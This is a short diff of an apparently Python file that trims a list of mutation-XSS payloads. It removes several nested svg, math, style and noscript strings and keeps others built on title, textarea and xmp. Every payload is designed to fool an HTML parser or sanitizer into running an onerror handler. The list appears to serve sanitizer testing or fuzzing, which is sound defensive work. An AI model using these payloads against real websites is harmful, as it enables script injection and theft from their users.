@@ -149,14 +149,7 @@ _ELEMENTS = [
 ]
 
 _MUTATIONS = [
-    f"<noscript><style></noscript><img src=x onerror={CODE}>",
-    f"<svg></p><style><a id='</style><img src=x onerror={CODE}>'>",
-    f"<math><mtext><table><mglyph><style><!--</style><b title='--&gt;&lt;b onclick={CODE}&gt;'>",
-    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CODE}>",
-    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={CODE}></style>",
-    f"<svg><style><img src=x onerror={CODE}></style></svg>",
     f"<svg><title><img src=x onerror={CODE}></title></svg>",
-    f"<svg><desc><style><a title='</style><img src=x onerror={CODE}>'>",
     f"<title><p title='</title><img src=x onerror={CODE}>'>",
     f"<textarea><p title='</textarea><img src=x onerror={CODE}>'>",
     f"<xmp><p title='</xmp><img src=x onerror={CODE}>'>",
